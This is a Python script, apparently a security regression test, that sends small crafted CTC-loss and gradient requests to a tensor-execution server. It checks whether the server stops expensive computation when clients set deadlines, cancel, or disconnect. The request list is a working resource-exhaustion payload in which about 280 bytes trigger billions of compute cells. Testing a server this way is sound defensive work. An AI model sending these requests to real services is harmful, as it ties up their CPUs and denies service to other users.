"""CTC losses of some 280 bytes over inputs that repeat one element: as many steps and labels as fit, with few chunks
or one, so that nobody asks for long whether the result is still wanted. One attacker sets deadlines, one cancels, one
vanishes.

Before: a call with a deadline of a second went on for more than 24 CPU-s.
"""

import time

import wire
from attack import Attack, Target, run


def loss(steps: int, samples: int, classes: int, labels: int) -> bytes:
    return wire.execute(
        wire.call(
            "CtcLoss",
            [
                wire.repeated("log_probs", [steps, samples, classes], raw=0),
                wire.repeated("targets", [samples, labels], wire.INT64, raw=1),
            ],
            input_lengths=[steps] * samples,
            target_lengths=[labels] * samples,
        ),
        [wire.floats(0.0), bytes(8)],
    )


def gradient(steps: int, samples: int, classes: int, labels: int) -> bytes:
    return wire.execute(
        wire.call(
            "CtcLossBackward",
            [
                wire.repeated("grad_out", [samples], raw=0),
                wire.repeated("log_probs", [steps, samples, classes], raw=0),
                wire.repeated("targets", [samples, labels], wire.INT64, raw=1),
                wire.repeated("neg_log_likelihood", [samples], raw=0),
                wire.repeated("log_alpha", [samples, steps, 2 * labels + 1], raw=0),
            ],
            input_lengths=[steps] * samples,
            target_lengths=[labels] * samples,
        ),
        [wire.floats(0.0), bytes(8)],
    )


REQUESTS = [
    gradient(30000, 1, 1, 1 << 20),  # one chunk, 3e10 cells
    gradient(2, 1, 1 << 20, 1 << 21),  # the labels alone
    loss(1 << 13, 1, 2, 1 << 12),
    gradient(1 << 14, 1, 256, 1 << 8),
    gradient(1 << 10, 64, 64, 1 << 14),
]


def with_deadlines(target: Target) -> None:
    connection = target.connect()
    for request in REQUESTS:
        connection.unary("Execute", request, "200m", 0.5)


def cancels(target: Target) -> None:
    connection = target.connect(1)
    for request in REQUESTS:
        call = connection.start("Execute", request)
        time.sleep(0.1)
        connection.reset(call)


def vanishes(target: Target) -> None:
    for request in REQUESTS:
        connection = target.connect(2)
        connection.start("Execute", request)
        time.sleep(0.1)
        connection.vanish()


if __name__ == "__main__":
    run(Attack([with_deadlines, cancels, vanishes]))
